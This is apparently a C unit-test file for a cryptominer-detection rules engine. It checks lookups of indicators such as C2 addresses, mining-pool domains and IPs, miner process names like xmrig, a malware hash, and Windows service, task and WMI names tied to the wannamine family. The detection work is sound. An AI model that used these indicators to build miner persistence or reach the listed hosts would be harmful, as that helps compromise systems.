	ASSERT_TRUE(x->has_sev && x->sev == MT_SEV_CRITICAL);
	ASSERT_STR_CONTAINS(x->file, "seed-incidents");
	ASSERT_STR_CONTAINS(x->source, "001_d8dfae8fe0404646");
	x = mt_rules_find(r, MT_RK_MD5, "97911a1da380f874393cf15982c6b1b9");
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->family, "wannamine");
	x = mt_rules_find_ipport(r, MT_RK_C2_IPPORT, "93.240.52.232", 13, 3389);
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->value, "93.240.52.232:3389");
	ASSERT_NULL(mt_rules_find_ipport(r, MT_RK_C2_IPPORT, "93.240.52.232", 13, 3390));
	ASSERT_NOT_NULL(mt_rules_find_ip(r, MT_RK_POOL_IP, "139.99.125.38", 13));
	ASSERT_NOT_NULL(mt_rules_find_ip(r, MT_RK_POOL_IP, "::ffff:139.99.125.38", 20));
	x = mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "junk.soquare.com", 16);
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->value, "junk.soquare.com");
	ASSERT_NOT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "x.junk.soquare.com", 18));
	ASSERT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "soquare.com", 11));
	ASSERT_NOT_NULL(mt_rules_find(r, MT_RK_MINER_NAME, "xmrig"));
	ASSERT_NOT_NULL(mt_rules_find(r, MT_RK_MINER_NAME, "dhpcd"));
	ASSERT_NULL(mt_rules_find(r, MT_RK_MINER_NAME, "sshd"));
	ASSERT_NULL(mt_rules_find(r, MT_RK_MINER_NAME, "bash"));
	ASSERT_NOT_NULL(mt_rules_find_domain(r, MT_RK_PASTE_DOMAIN, "pastebin.com", 12));
	ASSERT_TRUE(mt_rules_is_pool_port(r, 3333));
	ASSERT_FALSE(mt_rules_is_pool_port(r, 22));
	ASSERT_FALSE(mt_rules_is_pool_port(r, 443));
	/* the well-known benign names are not pool domains */
	ASSERT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "debian.org", 10));
	ASSERT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "github.com", 10));
	TEST_DONE();

	TEST_START("builtin rules: every entry has provenance");
	size_t missing = 0;
	mt_rule_info ri;
	for (size_t i = 0; i < mt_rules_count(r); i++)
		if (mt_rules_get(r, i, &ri) != MT_OK || !ri.source[0] || !ri.file[0] || !ri.line)
			missing++;
	ASSERT_SIZE_EQ(missing, 0);
	TEST_DONE();

	mt_rules_free(r);
}

static void write_file(const char *dir, const char *name, const char *text)
{
	char path[1024];
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	FILE *f = fopen(path, "w");
	REQUIRE_NOT_NULL(f);
	fputs(text, f);
	fclose(f);
}

static void test_load_dir(void)
{
	char dir[] = "/tmp/mt-test-rules-XXXXXX";
	char path[1024];
	mt_rules *r = NULL;
	diag_log d;

	REQUIRE_NOT_NULL(mkdtemp(dir));
	write_file(dir, "a-good.rules", "@source dir good\npool-domain good-dir.example\n");
	write_file(dir, "b-bad.rules",
	           "@source dir bad\npool-domain bad-dir.example\npool-port 70000\n");
	write_file(dir, "c-ignored.txt", "this is not a rules file\n");
	write_file(dir, "e-good.rules", "@source dir good 2\nc2-ip 192.0.2.99\n");
	snprintf(path, sizeof(path), "%s/x.rules", dir);
	REQUIRE_INT_EQ(mkfifo(path, 0600), 0);

	TEST_START("load_dir: good files load, the bad one is reported, a FIFO does not block");
	REQUIRE_INT_EQ(mt_rules_new(&r), MT_OK);
	memset(&d, 0, sizeof(d));
	alarm(10); /* opening the FIFO for reading without O_NONBLOCK would hang */
	mt_err e = mt_rules_load_dir(r, dir, on_diag, &d);
	alarm(0);
	ASSERT_INT_EQ(e, MT_ERR_PARSE);
	ASSERT_SIZE_EQ(mt_rules_count(r), 2);
	ASSERT_NOT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "good-dir.example", 16));
	ASSERT_NOT_NULL(mt_rules_find_ip(r, MT_RK_C2_IP, "192.0.2.99", 10));
	ASSERT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "bad-dir.example", 15));
	ASSERT_INT_EQ(d.calls, 2);
	char want[1200];
	snprintf(want, sizeof(want), "%s/b-bad.rules:3: ", dir);
	ASSERT_STR_CONTAINS(d.all, want);
	snprintf(want, sizeof(want), "%s/x.rules:0: ", dir);
	ASSERT_STR_CONTAINS(d.all, want);
	ASSERT_STR_LACKS(d.all, "c-ignored");
	const mt_rule *x = mt_rules_find_ip(r, MT_RK_C2_IP, "192.0.2.99", 10);
	REQUIRE_NOT_NULL(x);
	snprintf(want, sizeof(want), "%s/e-good.rules", dir);
	ASSERT_STR_EQ(x->file, want);
	mt_rules_free(r);
	TEST_DONE();

	TEST_START("load_dir: a missing directory");
	REQUIRE_INT_EQ(mt_rules_new(&r), MT_OK);
	memset(&d, 0, sizeof(d));
	snprintf(path, sizeof(path), "%s/nonexistent", dir);
	ASSERT_INT_EQ(mt_rules_load_dir(r, path, on_diag, &d), MT_ERR_NOENT);
	ASSERT_INT_EQ(d.calls, 1);
	ASSERT_STR_EQ(d.file, path);
	ASSERT_SIZE_EQ(mt_rules_count(r), 0);
	mt_rules_free(r);
	TEST_DONE();

	static const char *const names[] = {"a-good.rules", "b-bad.rules", "c-ignored.txt",
	                                    "e-good.rules", "x.rules"};
	for (size_t i = 0; i < MT_ARRAY_LEN(names); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, names[i]);
		unlink(path);
	}
	rmdir(dir);
}

/* The name kinds of Windows campaigns: globs without regard to case, ports canonical. */
static void test_windows_names(void)
{
	mt_rules *r = NULL;
	diag_log d;
	hits h;
	const mt_rule *x;

	TEST_START("rules: service, task, wmi and listen-port kinds");
	REQUIRE_INT_EQ(mt_rules_new(&r), MT_OK);
	ASSERT_INT_EQ(load(r, "win.rules",
	                   "@source test\n"
	                   "service snmpstorsrv sev=critical\n"
	                   "task \\Microsoft\\windows\\Bluetooths\n"
	                   "task Rtsa?\n"
	                   "wmi \"SCM Event Filter\"\n"
	                   "wmi *root\\default:systemcore_Updater*\n"
	                   "listen-port 065531\n",
	                   &d),
	              MT_OK);
	ASSERT_INT_EQ(d.calls, 0);
	each(r, MT_RK_SERVICE, "SnmpStorSrv", &h, 0);
	ASSERT_SIZE_EQ(h.n, 1);
	ASSERT_TRUE(h.v[0]->has_sev && h.v[0]->sev == MT_SEV_CRITICAL);
	each(r, MT_RK_SERVICE, "snmpstorsrv2", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0); /* a glob matches the whole name */
	each(r, MT_RK_TASK, "\\Microsoft\\Windows\\Bluetooths", &h, 0);
	ASSERT_SIZE_EQ(h.n, 1);
	each(r, MT_RK_TASK, "\\Microsoft\\Windows\\Bluetooth", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, MT_RK_TASK, "RTSA1", &h, 0);
	ASSERT_SIZE_EQ(h.n, 1);
	each(r, MT_RK_TASK, "Rtsa", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, MT_RK_WMI, "SCM Event Filter", &h, 0);
	ASSERT_SIZE_EQ(h.n, 1);
	each(r, MT_RK_WMI, "SCM Event Log Filter", &h, 0); /* Windows' own */
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, MT_RK_WMI, "$m=([WmiClass]'root\\default:systemcore_updater').Properties", &h, 0);
	ASSERT_SIZE_EQ(h.n, 1);
	each(r, MT_RK_SERVICE, "SCM Event Filter", &h, 0); /* kinds stay apart */
	ASSERT_SIZE_EQ(h.n, 0);
	x = mt_rules_find(r, MT_RK_LISTEN_PORT, "65531");
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->value, "65531");
	ASSERT_NULL(mt_rules_find(r, MT_RK_POOL_PORT, "65531"));
	ASSERT_INT_EQ(mt_rules_is_pool_port(r, 65531), 0);

	ASSERT_INT_NE(load(r, "bad.rules", "@source t\nlisten-port 70000\n", &d), MT_OK);
	ASSERT_STR_CONTAINS(d.msg, "not a port");
	ASSERT_INT_NE(load(r, "bad.rules", "@source t\nservice a*\n", &d), MT_OK);
	ASSERT_STR_CONTAINS(d.msg, "3 literal");
	mt_rules_free(r);

	/* the pack's own Windows campaign rules */
	REQUIRE_INT_EQ(mt_rules_new(&r), MT_OK);
	ASSERT_INT_EQ(mt_rules_load_builtin(r, on_diag, &d), MT_OK);
	each(r, MT_RK_SERVICE, "WMASSRV", &h, 0);
	REQUIRE_TRUE(h.n > 0);
	ASSERT_STR_EQ(h.v[0]->family, "wannamine");
	ASSERT_STR_CONTAINS(h.v[0]->source, "004_a7bafd0a27962d70");
	each(r, MT_RK_WMI, "fuckyoumm2_consumer", &h, 0);
	ASSERT_SIZE_GT(h.n, 0);
	each(r, MT_RK_WMI, "BVTConsumer", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, MT_RK_TASK, "GoogleUpdateTaskMachineUA", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0);
	ASSERT_NOT_NULL(mt_rules_find(r, MT_RK_LISTEN_PORT, "65529"));
	mt_rules_free(r);
	TEST_DONE();
}

int main(void)
{
	test_parse_valid();
	test_parse_errors();
	test_lookups();
	test_builtin();
	test_load_dir();
	test_windows_names();
	return T_DONE();
}
